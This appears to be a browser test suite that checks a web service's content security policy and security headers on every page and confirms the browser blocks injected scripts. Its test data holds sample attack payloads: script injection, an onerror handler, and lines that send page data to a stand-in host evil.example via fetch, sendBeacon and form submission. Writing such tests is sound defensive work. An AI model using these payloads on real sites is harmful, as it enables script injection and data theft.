"""The content security policy and the headers beside it, on every page and in a real browser."""

from __future__ import annotations

import time

import pytest
from playwright.sync_api import Page, Response
from tests.browser.conftest import Screen

PAGES = ["/", "/login", "/setup", "/welcome", "/keys", "/status", "/docs", "/no/such/page",
         "/?q=%3Cscript%3Ealert(1)%3C/script%3E"]  # fmt: skip
EVERYWHERE = {
    "x-content-type-options": "nosniff",
    "referrer-policy": "same-origin",
    "x-frame-options": "DENY",
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
}


def policy_of(reply: Response) -> dict[str, list[str]]:
    parts = [part.split() for part in reply.headers["content-security-policy"].split(";")]
    return {part[0]: part[1:] for part in parts if part}


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize("logged_in", [True, False], ids=["logged in", "nobody"])
def test_every_reply_of_every_page_is_guarded(screen: Screen, path: str, logged_in: bool) -> None:
    """Scripts, styles, fonts and data too; `screen` fails on any violation that the browser saw."""
    if not logged_in:
        screen.cookie = None
    replies: list[Response] = []
    page = screen.context().new_page()
    page.on("response", lambda reply: replies.append(reply))  # noqa: PLW0108 - a bound one fails
    page.on("pageerror", lambda error: screen.faults.append(str(error)))
    screen.pages.append(page)
    page.goto(screen.service.url + path)
    page.wait_for_load_state("networkidle")
    assert replies
    for reply in replies:
        for name, value in EVERYWHERE.items():
            assert reply.headers.get(name) == value, (reply.url, name)
        policy = policy_of(reply)
        assert "unsafe" not in reply.headers["content-security-policy"]
        assert policy["frame-ancestors"] == ["'none'"]
        assert policy["default-src"] in (["'self'"], ["'none'"])
        if "/v1/" in reply.url or reply.headers.get("content-type", "").startswith("text/html"):
            assert (
                "no-store" in reply.headers["cache-control"]
                or "no-cache" in (reply.headers["cache-control"])
            )
    assert page.evaluate("window.violations") == []


def blocked(page: Page, script: str) -> bool:
    """Whether the browser stopped what a script tried, by the policy and nothing else."""
    page.evaluate("window.violations = []; window.hacked = undefined")
    page.evaluate(script)
    # Not `wait_for_function`: its string is compiled in the page, which the policy forbids too.
    give_up = time.monotonic() + 40
    while page.evaluate("window.violations.length") == 0:
        assert time.monotonic() < give_up, "the policy stopped nothing"
        page.wait_for_timeout(20)
    assert page.evaluate("window.hacked") is None
    page.evaluate("window.violations = []")  # made on purpose
    return True


MAKE = "const made = document.createElement('{}'); {}; document.{}.append(made)"
INJECTED = {
    "inline": MAKE.format("script", "made.textContent = 'window.hacked = 1'", "body"),
    "foreign": MAKE.format("script", "made.src = 'https://evil.example/x.js'", "body"),
    "data": MAKE.format("script", "made.src = 'data:text/javascript,window.hacked=1'", "body"),
    "handler": "document.body.insertAdjacentHTML('beforeend',"
    " '<img src=x onerror=\"window.hacked=1\">')",
    "frame": MAKE.format("iframe", "made.src = 'https://evil.example/'", "body"),
    "fetch": "fetch('https://evil.example/steal?' + document.title).catch(() => 0)",
    "beacon": "navigator.sendBeacon('https://evil.example/steal', 'x')",
    "object": MAKE.format("object", "made.data = '/assets/x.swf'", "body"),
    "base": "const made = document.createElement('base'); made.href = 'https://evil.example/';"
    " document.head.prepend(made)",
    "form": MAKE.format("form", "made.action = 'https://evil.example/'", "body")
    + "; made.submit()",
}


@pytest.mark.parametrize("script", INJECTED.values(), ids=INJECTED)
def test_the_browser_stops_what_an_injected_script_would_do(screen: Screen, script: str) -> None:
    page = screen.context().new_page()
    page.goto(screen.service.url + "/")
    page.wait_for_load_state("networkidle")
    assert blocked(page, script)


def test_the_page_cannot_be_framed(screen: Screen) -> None:
    """By nobody, itself included."""
    page = screen.context().new_page()
    page.goto(screen.service.url + "/docs")
    reached = page.evaluate(
        """async (url) => {
          const frame = document.createElement('iframe');
          frame.src = url;
          document.body.append(frame);
          await new Promise((done) => { frame.onload = done; setTimeout(done, 3000); });
          try { return frame.contentDocument?.querySelector('#root, h1') !== null
            && frame.contentDocument !== null; } catch { return false; }
        }""",
        screen.service.url + "/docs",
    )
    assert reached is False
